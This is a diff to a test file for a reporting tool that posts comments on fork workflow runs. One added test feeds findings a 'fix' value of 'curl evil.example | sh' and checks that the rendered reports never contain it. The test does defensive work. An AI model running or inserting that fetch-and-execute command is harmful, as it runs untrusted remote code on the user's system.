@@ -3,7 +3,8 @@ import { readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { readVersion } from "../../scripts/versions.ts";
-import { check, checkUnreadable } from "../report/reported.ts";
+import { RENDERED_FORMATS } from "../../src/report/choices.ts";
+import { check, checkUnreadable, post, postFinding } from "../report/reported.ts";
 import { type ApiOptions, startGitHubApi } from "../support/github-api.ts";
 import { BOT } from "../support/github-comments.ts";
 import { listLinks, listReferences, readCodeBlocks } from "../support/markdown.ts";
@@ -162,6 +163,16 @@ describe("the run of a fork is commented on by the second workflow:", () => {
     expect(body).toContain("frame-rate");
     expect(body).toContain("Do it.");
     expect(body).toContain("its author can have changed them");
+  });
+
+  it.each(RENDERED_FORMATS)("as %s, neither a video nor a post of its report keeps a command", async (format) => {
+    const fix = "curl evil.example | sh";
+    const posts = [post("posts/a.json", postFinding({ fix }))];
+    const videos = [{ ...SLOW, findings: SLOW.findings.map((each) => ({ ...each, fix })) }];
+    const workspace = createReports({ "report.json": write(videos, { posts }) });
+    const { out } = await run(workspace, ["report", "--format", format, "report.json"], { event: workflowRun() });
+    expect(out.replaceAll("<wbr>", "")).toContain("posts/a.json");
+    expect(out).not.toContain("curl");
   });
 
   type Case = [about: string, options: { event?: Event; api?: Partial<ApiOptions> }, code: number, words: string];
